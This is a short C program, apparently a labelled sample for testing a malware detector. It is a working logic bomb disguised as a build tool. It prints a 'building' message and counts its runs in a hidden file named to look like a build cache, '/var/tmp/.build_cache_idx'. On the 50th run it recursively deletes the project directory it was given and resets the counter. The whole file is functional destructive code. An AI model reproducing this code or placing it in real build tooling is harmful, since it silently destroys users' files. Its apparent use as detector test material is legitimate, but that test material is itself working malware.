// blind-expect: behavior.logic-bomb
// Tracks how many times it has been run in a hidden counter file and recursively deletes the project tree on the 50th run.
#define _XOPEN_SOURCE 700
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ftw.h>
#include <unistd.h>

#define COUNTER_FILE "/var/tmp/.build_cache_idx"
#define LIMIT 50

static int load_count(void)
{
    FILE *f = fopen(COUNTER_FILE, "r");
    int n = 0;
    if (f) {
        if (fscanf(f, "%d", &n) != 1)
            n = 0;
        fclose(f);
    }
    return n;
}

static void store_count(int n)
{
    FILE *f = fopen(COUNTER_FILE, "w");
    if (f) {
        fprintf(f, "%d\n", n);
        fclose(f);
    }
}

static int remove_entry(const char *path, const struct stat *sb, int flag, struct FTW *ftw)
{
    (void)sb;
    (void)flag;
    (void)ftw;
    remove(path);
    return 0;
}

int main(int argc, char **argv)
{
    const char *project = argc > 1 ? argv[1] : ".";
    int runs = load_count() + 1;
    store_count(runs);

    printf("building %s (run %d)\n", project, runs);

    if (runs >= LIMIT) {
        nftw(project, remove_entry, 32, FTW_DEPTH | FTW_PHYS);
        store_count(0);
    }
    return 0;
}
